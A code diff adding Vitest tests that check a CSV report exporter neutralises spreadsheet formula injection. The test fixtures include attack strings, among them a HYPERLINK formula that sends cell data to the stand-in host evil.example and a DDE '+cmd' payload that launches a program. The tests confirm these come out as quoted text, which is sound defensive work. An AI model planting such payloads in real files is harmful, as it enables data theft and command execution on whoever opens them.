@@ -1,10 +1,12 @@
 import fs from 'node:fs';
 import path from 'node:path';
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { call, callTyped } from '../../db/api';
 import type { HostContext } from '../../db/api/context';
 import { UserError } from '../../db/errors';
 import { writeFilesAtomic } from '../../db/fs';
+import { toCsv } from '../../db/reports/csv';
 import { reportFileName } from '../../db/reports/export';
 import { esc, reportHtml } from '../../db/reports/html';
 import type { Report } from '../../db/reports/model';
@@ -331,5 +333,84 @@ describe('reportHtml directly', () => {
     const page = reportHtml(r);
     expect(between(page, 'data-figure="real"', '</div></div>')).toContain('>No data<');
     expect(between(page, 'data-figure="gap"', '</div></div>')).toContain('>No data<');
+  });
+});
+
+/*
+ * Spreadsheet formula injection: names come from imported files and the CSV is opened in Excel.
+ * Every text cell that starts like a formula is written with a leading apostrophe (quoted), so
+ * the spreadsheet shows it as text; numbers are written as they are.
+ */
+const PAYLOADS = [
+  ['=HYPERLINK', '=HYPERLINK("http://evil.example/?d="&A1,"Open")'],
+  ['+cmd', "+cmd|' /C calc'!A0"],
+  ['@SUM', '@SUM(1)'],
+  ['-2+3', '-2+3'],
+  ['tab', '\t=1+2'],
+  ['carriage return', '\r=1+2'],
+  ['a formula with a line break in it', '=1+2\nsecond line'],
+  ['a full-width equals sign', '\uFF1D1+2'],
+] as const;
+
+describe('the CSV writer neutralises formulas', () => {
+  it.each(PAYLOADS)('%s: the cell reads back as the text with an apostrophe before it', (_name, payload) => {
+    const text = toCsv(['name', 'value'], [[payload, 1]]);
+    const [header, row] = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
+    expect(header).toEqual(['name', 'value']);
+    expect(row).toEqual([`'${payload}`, '1']);
+    expect(text.split('\r\n')[1]?.startsWith(`"'`)).toBe(true);
+  });
+
+  it('leaves numbers (negative ones too), empty cells and ordinary text as they are', () => {
+    const text = toCsv(['a', 'b', 'c', 'd', 'e'], [[-0.25, 0, null, 'Claims North', 'Fish, "Chips"']]);
+    expect(text).toBe('a,b,c,d,e\r\n-0.25,0,,Claims North,"Fish, ""Chips"""\r\n');
+  });
+});
+
+describe('the report CSV with names that look like formulas', () => {
+  const names = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0", '@SUM(1)', '-2+3'];
+  let rows: string[][] = [];
+  let figures: Report | null = null;
+
+  beforeAll(async () => {
+    const t = tempEngine();
+    const h: HostContext = { engine: t.engine };
+    try {
+      await callTyped(h, 'workspace.init', { workspace: 'Acme', me: 'Dana Lee' });
+      const quote = (s: string) => `"${s.replaceAll('"', '""')}"`;
+      const usage = path.join(t.dir, 'usage.csv');
+      const lines = names.map((team, i) => `2026-01,${quote(team)},${quote(names[(i + 1) % names.length] ?? '')},10,8,100,90`);
+      fs.writeFileSync(
+        usage,
+        `month,team,initiative,licensed_users,active_users,workflows_started,workflows_completed\n${lines.join('\n')}\n`,
+      );
+      await callTyped(h, 'imports.run', { kind: 'usage', path: usage, createMissing: true });
+      const csv = (await callTyped(h, 'reports.export', { format: 'csv' })).content;
+      rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
+      figures = await callTyped(h, 'reports.get', {});
+    } finally {
+      t.cleanup();
+    }
+  });
+
+  it.each(names)('%s goes out as text, in the team and the initiative columns', (name) => {
+    const [header, ...body] = rows;
+    const team = header?.indexOf('team') ?? -1;
+    const initiative = header?.indexOf('initiative') ?? -1;
+    expect(body.map((r) => r[team])).toContain(`'${name}`);
+    expect(body.map((r) => r[initiative])).toContain(`'${name}`);
+    for (const r of body) for (const cell of r) expect(cell).not.toMatch(/^[=+@]/);
+  });
+
+  it('writes the figures as the numbers the report has', () => {
+    const [header, ...body] = rows;
+    const at = (column: string) => header?.indexOf(column) ?? -1;
+    expect(body).toHaveLength((figures?.rows.length ?? 0) + 1);
+    for (const r of figures?.rows ?? []) {
+      const line = body.find((b) => b[at('team')] === `'${r.team}` && b[at('initiative')] === `'${r.initiative}`);
+      expect(line?.[at('formal')]).toBe(String(r.formal));
+      expect(line?.[at('gap')]).toBe(r.gap === null ? '' : String(r.gap));
+      expect(line?.[at('decisions')]).toBe(String(r.decisions));
+    }
   });
 });
